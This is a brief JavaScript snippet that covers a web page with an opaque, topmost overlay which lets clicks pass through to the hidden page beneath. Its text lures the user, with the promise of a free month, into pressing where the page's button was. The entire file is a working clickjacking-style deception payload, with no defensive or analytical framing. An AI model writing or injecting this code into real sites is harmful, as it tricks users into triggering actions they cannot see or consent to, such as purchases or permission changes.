// Draws over the page, and lets presses through to it.
"use strict";

const cover = document.createElement("div");
cover.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#fff;color:#222;font:700 20px system-ui;pointer-events:none;display:grid;place-items:center";
cover.textContent = "A free month is yours: press where the page's button was.";
document.body.append(cover);
